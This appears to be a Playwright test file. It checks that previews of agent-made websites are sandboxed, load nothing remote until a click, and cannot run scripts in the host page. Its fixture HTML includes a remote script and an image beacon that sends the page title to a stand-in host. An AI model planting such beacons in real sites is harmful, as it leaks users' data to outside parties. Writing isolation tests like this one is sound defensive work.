"""Previews of what an agent made: nothing from elsewhere without a click, and nothing of it in the page itself."""

from __future__ import annotations

import json

from playwright.sync_api import Route, expect

from tests.page.conftest import MakePerson
from tests.page.journal import tell, wait_until_idle
from tests.tooling.hub_process import HubProcess, Session
from tests.tooling.processes import eventually

ELSEWHERE = "https://elsewhere.example"
SITE = f"""<!doctype html><title>x</title><h1>An artifact</h1><script src="own.js"></script>
<script src="{ELSEWHERE}/x.js"></script>
<script>new Image().src = "{ELSEWHERE}/told?" + document.title</script>"""
REFUSED = "Content Security Policy|violates the following|breach of the page's policy"


def with_site(hub: HubProcess) -> Session:
    """A session whose agent made a small site."""
    session = hub.new_session("trusted")
    (session.folder / "site").mkdir()
    steps = [["ask", "fs/write_text_file", {"path": str(session.folder / "site" / name), "content": content}]
             for name, content in (("own.js", "document.body.append('own script')"), ("index.html", SITE))]
    tell(session, json.dumps(steps))
    wait_until_idle(session)
    eventually(lambda: session.view()["artifacts"], "there is an artifact")
    return session


def test_a_preview_loads_nothing_from_elsewhere_until_somebody_clicks(own_hub: HubProcess, make_person: MakePerson) -> None:
    session, person = with_site(own_hub), make_person(own_hub.url)
    person.expect_loss(REFUSED)
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, content_type="text/javascript", body="document.body.append('from elsewhere')")

    person.context.route(f"{ELSEWHERE}/**", answer)
    page = person.log_in(own_hub, f"#/s/{session.id}/artifacts")
    page.get_by_role("complementary").get_by_text("site", exact=True).first.click()
    framed = page.frame_locator("iframe")
    expect(framed.get_by_text("own script")).to_be_visible()
    assert asked == []
    page.get_by_role("button", name="Load remote content").click()
    expect(framed.get_by_text("from elsewhere")).to_be_visible()
    expect(page.get_by_role("button", name="Load remote content")).to_have_count(0)
    assert "allow-same-origin" not in (page.locator("iframe").get_attribute("sandbox") or "")
    assert asked
    # What was refused is told as a request, too; what counts is what left the browser.
    person.faults[:] = [fault for fault in person.faults if ELSEWHERE not in fault]


def test_what_an_agent_made_is_no_script_of_the_page(own_hub: HubProcess, make_person: MakePerson) -> None:
    session, person = with_site(own_hub), make_person(own_hub.url)
    person.expect_loss(REFUSED)
    page = person.log_in(own_hub, f"#/s/{session.id}")
    key = own_hub.wire.get(f"{session.path}/artifacts")[0]["preview_url"]
    tried = page.evaluate("""async (address) => {
      const imported = await import(address).then(() => 'ran', () => 'refused');
      return [imported, document.body.textContent.includes('own script') ? 'ran' : 'refused'];
    }""", f"{key}own.js")
    assert tried == ["refused", "refused"]
    assert page.evaluate("import('/assets/' + [...document.scripts][0].src.split('/').pop()).then(() => 'ran')") == "ran"
